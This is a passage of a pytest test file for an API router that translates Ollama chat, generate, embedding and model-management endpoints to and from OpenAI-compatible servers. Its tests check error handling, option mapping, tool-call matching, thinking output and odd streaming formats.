    "both": b'event:error\ndata: {"error":{"message":"no memory"}}\n\n',
}


@pytest.mark.parametrize("error", ERROR_EVENTS.values(), ids=ERROR_EVENTS)
@pytest.mark.parametrize("stream", (True, False), ids=("lines", "whole"))
def test_ollama_reads_error_events(error: bytes, stream: bool) -> None:
    model = sdk_upstream().add_script(sse_response([RAW_WORD, error]))
    got = post_json("/api/chat", {**chat_document(model), "stream": stream})
    assert (got.documents[-1] if stream else got.json) == {"error": "no memory"}
    assert got.status == (200 if stream else 502)


@pytest.mark.parametrize("said", ([], [RAW_WORD]), ids=("nothing", "a word"))
@pytest.mark.parametrize("stream", (True, False), ids=("lines", "whole"))
def test_ollama_makes_no_end_for_a_stream_without_one(said: list[bytes], stream: bool) -> None:
    model = sdk_upstream().add_script(sse_response(said))
    got = post_json("/api/chat", {**chat_document(model), "stream": stream})
    *words, last = got.documents if stream and said else [got.json]
    assert last == {"error": "the stream ended before the answer was complete"}
    assert [word["done"] for word in words] == ([False] * len(said) if stream else [])
    assert got.status == (200 if words else 502)


@pytest.mark.parametrize("error", list(ERROR_EVENTS.values())[:2], ids=list(ERROR_EVENTS)[:2])
def test_error_event_ends_a_stream(error: bytes) -> None:
    model = sdk_upstream().add_script(sse_response([RAW_WORD, error], chunked=False))
    got = post_json("/v1/chat/completions", chat_document(model, stream=True))
    assert got.content == RAW_WORD + error


ERROR_CONTENTS = {
    "openai": b'{"error":{"message":"no such layer","type":"x","code":7}}',
    "text in error": b'{"error":"no such layer"}',
    "message": b'{"object":"error","message":"no such layer","code":400}',
    "detail": b'{"detail":"no such layer"}',
    "list of details": b'{"detail":[{"loc":["body"],"msg":"no such layer"}]}',
    "plain text": b"no such layer",
    "html": b"<html><body>no such layer</body></html>",
}


@pytest.mark.parametrize("content", ERROR_CONTENTS.values(), ids=ERROR_CONTENTS)
@pytest.mark.parametrize("path", ("/api/chat", "/api/embed"))
def test_ollama_error_is_always_text(path: str, content: bytes) -> None:
    kind = "application/json" if content.startswith(b"{") else "text/html"
    model = sdk_upstream().add_script(whole_response(content, 422, kind=kind))
    got = post_json(path, {"model": model, "messages": HELLO_MESSAGES, "input": "a"})
    assert got.status == 422
    check_error(path, got)
    assert "no such layer" in got.json["error"]


def test_ollama_error_without_content() -> None:
    got = post_json("/api/chat", chat_document(sdk_upstream().add_script(whole_response(b"", 503))))
    assert got.status == 503
    check_error("/api/chat", got)


BAD_REQUESTS: dict[str, dict] = {
    "messages": {"messages": "hello"},
    "a message": {"messages": ["hello"]},
    "options": {"messages": HELLO_MESSAGES, "options": "cold"},
    "format": {"messages": HELLO_MESSAGES, "format": 5},
    "an image": {"messages": [{**HELLO_MESSAGES[0], "images": ["no base64!"]}]},
    "a tool call": {"messages": [{"role": "assistant", "tool_calls": [{}]}]},
    "a limit": {"messages": HELLO_MESSAGES, "options": {"num_predict": 1e999}},
    "a long format": {"messages": HELLO_MESSAGES, "format": ["y" * 99_999]},
    **{
        f"a huge number in {name}": {"messages": [{**HELLO_MESSAGES[0], **message}], **more}
        for name, message, more in (
            ("options", {}, {"options": {"temperature": 1e999}}),
            ("tools", {}, {"tools": [1e999]}),
            ("format", {}, {"format": {"x": -1e999}}),
            ("a role", {"role": 1e999}, {}),
            ("an id", {"role": "tool", "tool_call_id": 1e999}, {}),
            ("a call", {"tool_calls": [{"function": {"name": "f", "arguments": [1e999]}}]}, {}),
        )
    },
}


@pytest.mark.parametrize("body", BAD_REQUESTS.values(), ids=BAD_REQUESTS)
def test_ollama_bad_request(body: dict) -> None:
    with nothing_sent_upstream():
        got = post_json("/api/chat", encode_huge_numbers({"model": "talk", **body}))
    assert got.status == 400
    check_error("/api/chat", got)
    assert len(got.content) < 200


@pytest.mark.parametrize(
    "message",
    [
        {"role": "tool", "tool_name": ["x"], "content": "y"},
        {"role": "assistant", "tool_calls": [{"function": {"name": {"a": 1}}}]},
        {"role": "assistant", "tool_calls": [{"id": {"a": 1}, "function": {"name": "f"}}]},
    ],
    ids=["name in a result", "name in a call", "id"],
)
def test_a_tool_name_or_id_that_is_none_is_told(message: dict[str, Any]) -> None:
    got = request(
        default_router().port, "POST", "/api/chat", {"model": "tiny", "messages": [message]}
    )
    assert got.status == 400 and "messages[0]" in got.json["error"]
    assert re.search("name|id is no", got.json["error"])


# --- Ollama in front of OpenAI servers: requests --------------------------------------

OPTIONS = [
    ({"num_predict": 128.0}, {"max_tokens": 128}),
    ({"num_predict": True}, {}),
    ({"num_predict": -1}, {}),
    ({"temperature": None, "top_k": 3, "num_ctx": 4096}, {"top_k": 3}),
]


@pytest.mark.parametrize("options, wanted", OPTIONS)
def test_options_of_the_other_protocol(options: Any, wanted: Any) -> None:
    assert smolrouter.openai_options({"options": options, "format": None}) == wanted


@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@pytest.mark.parametrize("asked", ({}, {"stream": True}, {"stream": False}), ids=repr)
def test_ollama_streams_unless_told_not_to(path: str, asked: dict) -> None:
    got = post_json(path, {"model": "talk", "prompt": "hello", "messages": HELLO_MESSAGES, **asked})
    streamed = asked.get("stream", True)
    assert bool(last_request().json.get("stream")) == streamed
    kind = "application/x-ndjson" if streamed else "application/json"
    assert (got.get("Content-Type") or "").split(";")[0] == kind
    parts = got.documents if streamed else [got.json]
    assert (len(parts) > 3) == streamed
    assert not streamed or got.content.endswith(b"}\n")
    check_ollama(parts, "talk")
    if path == "/api/chat":
        assert "".join(p["message"]["content"] for p in parts) == HELLO_ANSWER
    else:
        assert "".join(p["response"] for p in parts) == HELLO_ANSWER


OLLAMA_OPTIONS: Cases = (
    ({"temperature": 0.25}, {"temperature": 0.25}),
    ({"temperature": 0}, {"temperature": 0}),
    ({"top_p": 0.5}, {"top_p": 0.5}),
    ({"top_k": 40}, {"top_k": 40}),
    ({"min_p": 0.05}, {"min_p": 0.05}),
    ({"seed": 7}, {"seed": 7}),
    ({"seed": 0}, {"seed": 0}),
    ({"stop": ["a", "b"]}, {"stop": ["a", "b"]}),
    ({"num_predict": 9}, {"max_tokens": 9}),
    ({"num_predict": -1}, {}),
    ({"num_predict": -2}, {}),
    ({"num_predict": 0}, {}),
    ({"presence_penalty": 0.5}, {"presence_penalty": 0.5}),
    ({"frequency_penalty": -0.5}, {"frequency_penalty": -0.5}),
    ({"repeat_penalty": 1.1}, {"repeat_penalty": 1.1}),
    ({}, {}),
    (None, {}),
)
SAMPLING = {name for _, sent in OLLAMA_OPTIONS for name in sent}


@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@pytest.mark.parametrize("options, sent", OLLAMA_OPTIONS, ids=lambda value: repr(value))
def test_ollama_options(path: str, options: Any, sent: dict) -> None:
    body = {"model": "talk", "prompt": "hello", "messages": HELLO_MESSAGES, "stream": False}
    got = post_json(path, {**body, "options": options, "keep_alive": "5m"})
    assert got.status == 200
    heard = last_request().json
    assert {name: heard[name] for name in SAMPLING if name in heard} == sent
    assert not {"options", "keep_alive", "num_predict", "prompt"} & set(heard)


@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@pytest.mark.parametrize("form", ("json", {"type": "object"}, "", None), ids=repr)
def test_ollama_format(path: str, form: Any) -> None:
    body = {"model": "talk", "prompt": "hello", "messages": HELLO_MESSAGES, "format": form}
    assert post_json(path, body).status == 200
    if form:
        schema = form if isinstance(form, dict) else None
        check_format(last_request().json["response_format"], schema)
    else:
        assert "response_format" not in last_request().json


@pytest.mark.parametrize("more", [{"suffix": "return 1"}, {"raw": True}], ids=repr)
@pytest.mark.parametrize("think", [{}, {"think": False}], ids=repr)
def test_ollama_prompts_without_a_template(more: dict, think: dict) -> None:
    """They are no chat, and nothing is appended to them."""
    router = router_filtering(DISABLE_THINKING="true")
    name = default_upstream().add_script(well_behaved)
    for stream in (False, True):
        body = {"model": name, "prompt": "def f(", "stream": stream, **more, **think}
        got = request(router.port, "POST", "/api/generate", body)
        assert (got.text if stream else got.json["response"]) == "You said: def f("
        received = default_upstream().requests_for(name)[-1]
        assert (received.path, received.json["prompt"]) == ("/v1/completions", "def f(")
        assert received.json.get("suffix") == more.get("suffix")
        assert "messages" not in received.json


@pytest.mark.parametrize("prefix", ("", "data:image/png;base64,"), ids=("bare", "url"))
def test_ollama_images_alone(prefix: str) -> None:
    data = base64.b64encode(PICTURES["png"]).decode()
    message = {"role": "user", "content": "", "images": [prefix + data]}
    assert post_json("/api/chat", {"model": "talk", "messages": [message]}).status == 200
    content = last_request().json["messages"][0]["content"]
    assert [p for p in content if p["type"] == "image_url"] == [image_part("png")]


@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "text/plain", None])
def test_a_translated_request_is_json_whatever_it_was_called(kind: str | None) -> None:
    for path, document in EXAMPLE_REQUESTS.items():
        if path.startswith("/api/"):
            name = default_upstream().add_script([*FINE_RESPONSE])
            data = encode_request("POST", path, {**document, "model": name, "stream": False})
            called = f"Content-Type: {kind}\r\n".encode() if kind else b""
            send_raw(
                default_router().port, data.replace(b"Content-Type: application/json\r\n", called)
            )
            assert default_upstream().requests_for(name)[0].get_all("Content-Type") == [
                "application/json"
            ]


# --- Ollama in front of OpenAI servers: tools -----------------------------------------


def ollama_calls(*calls: tuple[str, dict]) -> dict:
    """Make an assistant's message that calls tools, as Ollama clients write it."""
    said = [{"function": {"name": n, "arguments": a}} for n, a in calls]
    return {"role": "assistant", "content": "", "tool_calls": said}


def tool_result(name: str, text: str) -> dict:
    """Make the message with a tool's result, as Ollama clients write it."""
    return {"role": "tool", "tool_name": name, "content": text}


TOOL_TALKS = {
    "two tools": [
        ollama_calls(*TOOL_CALLS),
        tool_result("weather", "sunny"),
        tool_result("clock", "noon"),
    ],
    "other order": [
        ollama_calls(*TOOL_CALLS),
        tool_result("clock", "noon"),
        tool_result("weather", "sunny"),
    ],
    "one tool twice": [
        ollama_calls(("clock", {"at": 1}), ("clock", {"at": 2})),
        tool_result("clock", "one"),
        tool_result("clock", "two"),
    ],
    "two turns": [
        ollama_calls(TOOL_CALLS[0]),
        tool_result("weather", "sunny"),
        ollama_calls(TOOL_CALLS[0]),
        tool_result("weather", "rainy"),
    ],
}
NAMELESS = [{"role": "tool", "content": "x"}, tool_result("sun", "x"), tool_result("clock", "x")]
# After calls of clock, clock and weather: results of tools, and the calls that they answer.
RESULT_IDS = {
    "no name": ([NAMELESS[0]] * 4, ["call_0_0", "call_0_1", "call_0_2", "call_4"]),
    "unknown name": ([NAMELESS[1], NAMELESS[0]], ["call_1", "call_0_0"]),
    "both": ([NAMELESS[0], NAMELESS[2], NAMELESS[2]], ["call_0_0", "call_0_1", "call_3"]),
    "name first": ([NAMELESS[2], *[NAMELESS[0]] * 2], ["call_0_0", "call_0_1", "call_0_2"]),
    "own id": (
        [{**NAMELESS[0], "tool_call_id": "call_0_2"}, *[NAMELESS[0]] * 2],
        ["call_0_2", "call_0_0", "call_0_1"],
    ),
}


@pytest.mark.parametrize("results, ids", RESULT_IDS.values(), ids=RESULT_IDS)
def test_ollama_tool_result_takes_the_oldest_call(results: list[dict], ids: list[str]) -> None:
    called = ollama_calls(("clock", {}), ("clock", {}), ("weather", {}))
    assert post_json("/api/chat", {"model": "talk", "messages": [called, *results]}).status == 200
    assert [m["tool_call_id"] for m in last_request().json["messages"][1:]] == ids


@pytest.mark.parametrize("odd_id", ({}, ["a"], 7), ids=repr)
def test_ollama_ids_of_calls_are_strings(odd_id: Any) -> None:
    called = ollama_calls(("clock", {}))
    called["tool_calls"][0]["id"] = odd_id or [{}]
    for talk in ([called, NAMELESS[0]], [{**NAMELESS[0], "tool_call_id": odd_id or [{}]}]):
        got = post_json("/api/chat", {"model": "talk", "messages": talk})
        assert got.status == 400 and b"id is no string" in got.content


@pytest.mark.parametrize("image", ({"detail": "low"}, {"media_type": "image/png"}), ids=repr)
def test_an_image_without_its_data_is_none(image: Any) -> None:
    parts = [{"type": "text", "text": "look"}, {"type": "image_url", "image_url": image}]
    document = {"model": "talk", "messages": [{"role": "user", "content": parts}]}
    (message,) = smolrouter.read_transcript(CHAT, encode_json(document), b"")
    assert (message["content"], message["images"]) == ("look", [])
    got = post_json("/api/chat", document)
    assert got.status == 400 and b"image_url` has no known shape" in got.content


def test_ollama_calls_and_results_cost_their_sum() -> None:
    """Not their product, in which nothing else would run: 6000 x 30,000 took half a minute."""
    call = {"function": {"name": "f"}}
    talk = [{"tool_calls": [call] * 30_000}, *[tool_result("g", "")] * 6000]
    assert (
        request(
            sdk_router().port,
            "POST",
            "/api/chat",
            {"model": "talk", "messages": talk},
            patience=PATIENCE,
        ).status
        == 200
    )


@pytest.mark.parametrize("talk", TOOL_TALKS.values(), ids=TOOL_TALKS)
def test_ollama_tool_results_find_their_calls(talk: list[dict]) -> None:
    body = {"model": "talk", "messages": [*HELLO_MESSAGES, *talk], "tools": TOOLS}
    assert post_json("/api/chat", body).status == 200
    sent = last_request().json["messages"][1:]
    assert [m["role"] for m in sent] == [m["role"] for m in talk]
    names: dict[str, str] = {}
    answered = []
    for message, given in zip(sent, talk, strict=True):
        if given["role"] == "tool":
            assert names[message["tool_call_id"]] == given["tool_name"]
            assert message["content"] == given["content"]
            answered.append(message["tool_call_id"])
            continue
        for call, asked in zip(message["tool_calls"], given["tool_calls"], strict=True):
            function = call["function"] | {}
            function["arguments"] = json.loads(function["arguments"])
            assert (call["type"], function) == ("function", asked["function"])
            assert call["id"] and call["id"] not in names
            names[call["id"]] = function["name"]
    assert sorted(answered) == sorted(names)


# The arguments of a call as a server writes them, and as a client gets them; None: any object.
ARGUMENTS: Cases = (
    ('{"a": 1}', {"a": 1}),
    ('{"a": 1.50, "b": "\\u00e9"}', {"a": 1.5, "b": "\xe9"}),
    ({"a": 1}, {"a": 1}),
    ("{}", {}),
    ("", {}),
    (None, {}),
    ('{"a": "cut o', None),
    ("[1]", None),
)


@pytest.mark.parametrize("arguments, expected", ARGUMENTS)
@whole_or_lines
def test_ollama_arguments_are_objects(arguments: Any, expected: dict | None, stream: bool) -> None:
    call = {
        "id": "c",
        "type": "function",
        "index": 0,
        "function": {"name": "f", "arguments": arguments},
    }
    said = {"role": "assistant", "content": None, "tool_calls": [call]}
    whole = {"choices": [{"index": 0, "message": said, "finish_reason": "tool_calls"}]}
    events = [chat_chunk({}, said), chat_chunk({}, {}, "tool_calls"), "[DONE]"]
    model = sdk_upstream().add_script(sse_response(events) if stream else json_response(whole))
    got = post_json("/api/chat", {**chat_document(model), "stream": stream})
    parts = got.documents if stream else [got.json]
    (called,) = [c for p in parts for c in p["message"].get("tool_calls") or ()]
    assert called["function"]["name"] == "f"
    assert isinstance(called["function"]["arguments"], dict)
    assert expected is None or called["function"]["arguments"] == expected


def test_calls_of_other_ids_are_other_calls() -> None:
    def call(name: str) -> dict:
        function = {"name": name, "arguments": '{"x":1}'}
        calls = [{"index": 0, "id": f"id-{name}", "function": function}]
        return {"choices": [{"index": 0, "delta": {"tool_calls": calls}}]}

    model = default_upstream().add_script(sse_response([call("f"), call("g"), FINISH, "[DONE]"]))
    got = request(
        default_router().port, "POST", "/api/chat", example_request("/api/chat", model, True)
    )
    calls = [c for d in got.documents for c in d.get("message", {}).get("tool_calls", [])]
    assert [c["function"]["name"] for c in calls] == ["f", "g"]
    assert [c["function"]["arguments"] for c in calls] == [{"x": 1}] * 2


# --- Ollama in front of OpenAI servers: answers ---------------------------------------

# The model, more of the request, the thinking and the words that come back.
OLLAMA_THOUGHTS: Cases = (
    ("think", {}, None, "Forty-two."),
    ("think", {"think": True}, "Six times seven.", "Forty-two."),
    ("think", {"think": False}, None, "Forty-two."),
    ("reason", {}, None, "Forty-two."),
    ("reason", {"think": True}, "Six times seven.", "Forty-two."),
    ("talk", {"think": True}, "", HELLO_ANSWER),
)


@pytest.mark.parametrize("model, asked, thoughts, words", OLLAMA_THOUGHTS)
@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@whole_or_lines
def test_ollama_thinking(
    path: str, stream: bool, model: str, asked: dict, thoughts: str | None, words: str
) -> None:
    body = {"model": model, "prompt": "hello", "messages": HELLO_MESSAGES, "stream": stream}
    got = post_json(path, {**body, **asked})
    assert got.status == 200
    parts = got.documents if stream else [got.json]
    spoken = [p["message"] if path == "/api/chat" else p for p in parts]
    key = "content" if path == "/api/chat" else "response"
    assert "".join(p.get(key) or "" for p in spoken) == words
    if thoughts is not None:
        assert "".join(p.get("thinking") or "" for p in spoken).strip() == thoughts
    told = last_request().json["messages"][-1]["content"]
    assert told == ("hello /no_think" if asked.get("think") is False else "hello")


def test_ollama_thinking_by_degrees() -> None:
    got = post_json("/api/chat", {**chat_document("think"), "think": "high", "stream": False})
    assert got.json["message"]["thinking"] == "Six times seven."
    assert got.json["message"]["content"] == "Forty-two."


@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@pytest.mark.parametrize("model, reason", (("talk", "stop"), ("long", "length")))
@whole_or_lines
def test_ollama_done_reason(path: str, stream: bool, model: str, reason: str) -> None:
    body = {"model": model, "prompt": "hello", "messages": HELLO_MESSAGES, "stream": stream}
    got = post_json(path, body)
    parts = got.documents if stream else [got.json]
    check_ollama(parts, model, reason)


@pytest.mark.parametrize(
    "path, body",
    (
        ("/api/generate", {}),
        ("/api/generate", {"prompt": ""}),
        ("/api/generate", {"prompt": "", "stream": False}),
        ("/api/generate", {"keep_alive": -1}),
        ("/api/chat", {}),
        ("/api/chat", {"messages": []}),
        ("/api/chat", {"messages": [], "stream": False}),
    ),
)
def test_ollama_nothing_to_say_is_a_load(path: str, body: dict) -> None:
    with nothing_sent_upstream():
        got = post_json(path, {"model": "talk:latest", **body})
    assert got.status == 200
    (document,) = [json.loads(line) for line in got.content.splitlines()]
    assert document["model"] == "talk:latest"
    assert document["done"] is True
    assert document["done_reason"] == "load"
    assert RFC_3339.fullmatch(document["created_at"])
    if path == "/api/chat":
        assert document["message"]["role"] == "assistant"
        assert document["message"]["content"] == ""
    else:
        assert document["response"] == ""


@pytest.mark.parametrize("asked", ("talk:latest", *(f"{w}-talk:latest" for w in KINDS_OF_ROUTE)))
@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
def test_ollama_latest_is_no_part_of_the_name(path: str, asked: str) -> None:
    got = post_json(path, {"model": asked, "prompt": "hello", "messages": HELLO_MESSAGES})
    assert got.status == 200
    assert last_request().model == "talk"
    check_ollama(got.documents, asked)


@pytest.mark.parametrize("path", ("/api/embed", "/api/embeddings"))
def test_ollama_vectors_are_no_stream(path: str) -> None:
    got = post_json(path, {"model": "vectors", "input": "a", "prompt": "a"})
    assert (got.get("Content-Type") or "").startswith("application/json")
    assert "stream" not in last_request().json


def test_vectors_stand_in_the_order_of_their_inputs() -> None:
    data: list[dict] = [{"index": index, "embedding": [float(index)]} for index in (2, 0, 1)]
    asked = {"input": ["a", "b", "c"]}
    got = translated_document({"data": data}, asked, "/api/embed", smolrouter.OLLAMA_EMBED)
    assert got["embeddings"] == [[0.0], [1.0], [2.0]]
    older = "/api/embeddings", smolrouter.OLLAMA_EMBEDDING
    assert translated_document({"data": data}, {}, *older) == {"embedding": [0.0]}
    del data[1]["index"]
    assert translated_document({"data": data}, {}, *older) == {"embedding": [2.0]}


# The first octets of a picture, in base64.
PNG_START = "iVBORw0KGgo="


def test_pictures_without_words_are_sent() -> None:
    for prompt in ({}, {"prompt": ""}):
        asked = {"model": "talk", "images": [PNG_START], **prompt}
        assert post_json("/api/generate", asked).status == 200
        (part,) = last_request().json["messages"][0]["content"]
        assert part["image_url"]["url"] == f"data:image/png;base64,{PNG_START}"


@pytest.mark.parametrize("path, member", [("/api/chat", "messages"), ("/api/generate", "prompt")])
@pytest.mark.parametrize("stream", [True, False])
def test_ollama_counts_of_a_server_that_does_not_count(
    path: str, member: str, stream: bool, log_folder: LogFolder
) -> None:
    """They are estimates, the same ones as in the row."""
    delta = {"reasoning_content": "w" * 10, "tool_calls": [call_fragment(0, "c", "f", '{"a":1}')]}
    events = [chat_chunk({}, {**delta, "content": "x" * 20}), FINISH, "[DONE]"]
    message = {"role": "assistant", "content": "x" * 20, **delta}
    whole = {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
    steps = sse_response(events) if stream else json_response(whole)
    asked = {"prompt": "p" * 9, "system": "s" * 8}
    if member == "messages":
        asked = {"messages": [{"role": "user", "content": "p" * 17}]}
    upstream = Upstream(lambda received: steps)
    settings = {**log_folder.settings, "DEFAULT_UPSTREAM": upstream.url}
    with upstream, Router(settings) as router:
        got = request(router.port, "POST", path, {"model": "m", "stream": stream, **asked})
        assert log_folder.wait_for_rows(1) == 1
    last = got.documents[-1] if stream else got.json
    counts = (last["prompt_eval_count"], last["eval_count"])
    # 17 letters, and 20 of the answer, 10 of its thoughts, 7 of its call's arguments.
    assert counts == (5, 10)
    columns = "prompt_tokens, completion_tokens, tokens_estimated"
    assert log_folder.select(f"SELECT {columns} FROM requests") == [(*counts, 1)]


@pytest.mark.parametrize("unnamed", (None, ""))
def test_the_model_of_an_answer_is_named_as_the_client_did(unnamed: str | None) -> None:
    """Ollama's clients may name it by `name` alone, with a `model` that says nothing."""
    names = {"model": unnamed, "name": "m"}
    assert translated_document(completion({}, "yes"), names)["model"] == "m"
    vectors = {"data": [{"embedding": [1.0]}]}
    dialect = smolrouter.OLLAMA_EMBED
    got = translated_document(vectors, {**names, "input": "hi"}, "/api/embed", dialect)
    assert got["model"] == "m"
    for path, kind in (("/api/chat", smolrouter.OLLAMA), ("/api/embed", dialect)):
        assert kind.empty(kind.read(path, "", encode_json(names)), "")["model"] == "m"


def test_ollama_vectors_of_a_server_that_does_not_count() -> None:
    for text in ("p" * 17, ["p" * 9, "p" * 8, 5]):
        document = {"data": [{"embedding": [1.0]}]}
        dialect = smolrouter.OLLAMA_EMBED
        got = translated_document(document, {"input": text}, "/api/embed", dialect)
        assert got["prompt_eval_count"] == 5


SAID = {
    "usage is missing": [RAW_WORD, RAW_STOP, RAW_DONE],
    "no finish reason": [RAW_WORD, RAW_DONE],
    "no end mark": [RAW_WORD, RAW_STOP],
    "no space after data": [RAW_WORD.replace(b"data: ", b"data:"), RAW_STOP, RAW_DONE],
    "comments": [RAW_PING, RAW_WORD, RAW_PING, RAW_STOP, RAW_DONE],
    "crlf": [e.replace(b"\n", b"\r\n") for e in (RAW_WORD, RAW_STOP, RAW_USAGE_EVENT, RAW_DONE)],
    "named events": [b"event: message\nid: 1\n" + RAW_WORD, RAW_STOP, RAW_DONE],
    "role in each": [RAW_WORD.replace(b"{", b'{"role":"assistant",', 2), RAW_STOP, RAW_DONE],
    "nulls": [RAW_TOP + b'{"content":"hi","tool_calls":null}}],"usage":null}\n\n', RAW_DONE],
}


@pytest.mark.parametrize("events", SAID.values(), ids=SAID)
@pytest.mark.parametrize("joined", (False, True), ids=("apart", "at once"))
def test_ollama_of_odd_streams(events: list[bytes], joined: bool) -> None:
    model = sdk_upstream().add_script(sse_response([b"".join(events)] if joined else events))
    got = post_json("/api/chat", chat_document(model))
    assert got.text == "hi"
    check_ollama(got.documents, model)
    assert isinstance(got.documents[-1]["eval_count"], int)
    assert isinstance(got.documents[-1]["prompt_eval_count"], int)


def test_ollama_stream_of_a_server_that_does_not_stream() -> None:
    model = sdk_upstream().add_script(json_response(completion({}, HELLO_ANSWER)))
    got = post_json("/api/chat", chat_document(model))
    assert got.get("Content-Type") == "application/x-ndjson"
    assert got.text == HELLO_ANSWER
    check_ollama(got.documents, model)
    check_counts(got.documents[-1], HELLO_ANSWER)


@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
def test_ollama_document_of_a_server_that_always_streams(path: str) -> None:
    call = {"index": 0, "id": "c", "function": {"name": "f", "arguments": '{"a":'}}
    rest = {"index": 0, "function": {"arguments": "1}"}}
    said = [{"reasoning_content": "Hm"}, {"reasoning_content": "m."}, {"content": "Forty-"},
            {"content": "two.", "images": [{"image_url": {"url": "data:,"}}]},
            {"tool_calls": [call]}, {"tool_calls": [rest]}]  # fmt: skip
    events = [chat_chunk({}, part) for part in said] + [chat_chunk({}, {}, "stop")]
    model = sdk_upstream().add_script(sse_response([*events, RAW_USAGE_EVENT, "[DONE]"]))
    got = post_json(path, {**chat_document(model), "prompt": "hi", "stream": False})
    assert got.get("Content-Type").startswith("application/json")
    check_ollama([got.json], model)
    message = got.json["message"] if path == "/api/chat" else got.json
    assert message["content" if path == "/api/chat" else "response"] == "Forty-two."
    assert message["thinking"] == "Hmm."
    assert message["tool_calls"] == [{"function": {"name": "f", "arguments": {"a": 1}}}]
    assert (got.json["prompt_eval_count"], got.json["eval_count"]) == (3, 1)


def test_ollama_lines_without_any_filter() -> None:
    router = shared_router({"DEFAULT_UPSTREAM": sdk_upstream().url, "STRIP_THINKING": "false"})
    model = sdk_upstream().add_script(sse_response([RAW_WORD, RAW_STOP, RAW_DONE]))
    got = post_json("/api/chat", chat_document(model), router)
    assert got.text == "hi"
    check_ollama(got.documents, model)


# --- Ollama: models and their management ----------------------------------------------


@each_ollama
def test_ollama_list(sdk: Sdk) -> None:
    models = sdk.call(models_router().url, "list").models
    names = {(m.model or "").removesuffix(":latest") for m in models}
    assert {"talk", "org/some-model", "alias-talk", "old-name"} <= names
    assert all(m.modified_at and m.details for m in models)


@each_ollama
@pytest.mark.parametrize("name", ("tiny", "tiny:latest", "alias-talk", "old-name"))
def test_ollama_show(sdk: Sdk, name: str) -> None:
    got = sdk.call(models_router().url, "show", name)
    assert got.details is not None
    assert got.modelinfo is not None
    assert "completion" in got.capabilities


@each_ollama
def test_ollama_ps(sdk: Sdk) -> None:
    assert isinstance(sdk.call(models_router().url, "ps").models, list)


def test_ollama_tags_and_models_say_the_same() -> None:
    tags = request(models_router().port, "GET", "/api/tags").json["models"]
    names = [model["name"].removesuffix(":latest") for model in tags]
    assert set(names) == set(model_names(models_router()))
    for model in tags:
        assert model["model"] == model["name"]
        assert RFC_3339.fullmatch(model["modified_at"])
        assert isinstance(model["size"], int)
        assert isinstance(model["digest"], str)
        assert isinstance(model["details"], dict)


def test_ollama_version() -> None:
    got = request(sdk_router().port, "GET", "/api/version")
    assert (got.status, [*got.json]) == (200, ["version"])
    assert re.fullmatch(r"\d+\.\d+\.\d+\S*", got.json["version"])


def test_ollama_head_of_root() -> None:
    got = request(sdk_router().port, "HEAD", "/")
    assert (got.status, got.content) == (200, b"")


MANAGEMENT = (
    ("POST", "/api/pull", {"model": "llama3"}),
    ("POST", "/api/push", {"model": "me/llama3", "stream": False}),
    ("POST", "/api/create", {"model": "mine", "from": "llama3", "system": "Be brief."}),
    ("POST", "/api/copy", {"source": "llama3", "destination": "mine"}),
    ("DELETE", "/api/delete", {"model": "mine"}),
    ("HEAD", "/api/blobs/sha256:29fdb92e57cf", None),
    ("POST", "/api/blobs/sha256:29fdb92e57cf", SOUND),
)


@pytest.mark.parametrize("method, path, body", MANAGEMENT)
def test_ollama_management_needs_a_server(method: str, path: str, body: Any) -> None:
    with nothing_sent_upstream():
        got = request(sdk_router().port, method, path, body)
    assert got.status == 501
    if method != "HEAD":
        check_error(path, got)


@pytest.mark.parametrize(
    "path, member", (("/api/embed", "embeddings"), ("/api/embeddings", "embedding"))
)
@pytest.mark.parametrize("body", ({"input": []}, {"input": ""}, {"prompt": ""}, {}))
def test_ollama_no_text_has_no_vectors(path: str, member: str, body: dict) -> None:
    with nothing_sent_upstream():
        got = post_json(path, {"model": "vectors:latest", **body})
    assert (got.status, got.json[member]) == (200, [])


UNKNOWN_MODELS = (
    ("talkk", "no such model 'talkk'; the nearest are"),
    ("talkk:latest", "no such model 'talkk:latest'; the nearest are"),
    ("x" * 9000, "no such model 'xxx"),
    ("talk", "it is there already"),
)


@pytest.mark.parametrize("model, words", UNKNOWN_MODELS)
def test_ollama_run_is_told_of_no_such_model(model: str, words: str) -> None:
    """It asks /api/show, and for what is unknown there it asks /api/pull."""
    shown = request(models_router().port, "POST", "/api/show", {"model": model})
    assert shown.status == (200 if model == "talk" else 404)
    pulled = request(models_router().port, "POST", "/api/pull", {"model": model})
    assert pulled.status == 501
    assert pulled.json["error"].startswith(words)
    assert len(pulled.content) < 1000
    if shown.status == 404:
        assert shown.json["error"].startswith(words)
        listed = request(models_router().port, "GET", f"/v1/models/{model}")
        assert (listed.status, words in listed.json["error"]["message"]) == (404, True)
        assert ("talk" in pulled.json["error"]) or model.startswith("x")


OWN_AFFAIRS = (
    ("GET", "/api/status", None),
    ("HEAD", "/api/status", None),
    ("POST", "/api/me", None),
    ("POST", "/api/me", {}),
    ("GET", "/api/experimental/aliases", None),
    ("POST", "/api/experimental/web_search", {"query": "q"}),
    ("DELETE", "/api/experimental/aliases/x", None),
)


@pytest.mark.parametrize("method, path, body", OWN_AFFAIRS)
def test_ollama_servers_own_affairs_reach_them(method: str, path: str, body: Any) -> None:
    """Without such a server there is a 404, as from an older one: clients go on without."""
    got = request(native().port, method, f"{path}?n=1", body)
    heard = gpu().requests[-1]
    assert (heard.method, heard.target) == (method, f"{path}?n=1")
    assert heard.json == body
    assert got.status == 200
    with nothing_sent_upstream():
        assert request(sdk_router().port, method, path, body).status == 404


# --- Ollama in front of Ollama servers ------------------------------------------------

NATIVE_LINES = [
    b'{"model":"llama3","created_at":"2026-01-02T03:04:05.123456789Z", '
    b'"message":{"role":"assistant","content":"na\\u003dtive "},"done":false}\n',
    b'{"model":"llama3","created_at":"2026-01-02T03:04:05.2Z",'
    b'"message":{"role":"assistant","content":"words","thinking":"hm"},"done":false}\n',
    b'{"model":"llama3","created_at":"2026-01-02T03:04:05.3Z","done":true,'
    b'"message":{"role":"assistant","content":""},"done_reason":"stop","x":1.0,'
    b'"total_duration":1,"prompt_eval_count":11,"eval_count":12}\n',
]
NATIVE_WHOLE = NATIVE_LINES[2].replace(b'"content":""', b'"content" : "native words"')
NATIVE_TAGS = {
    "models": [
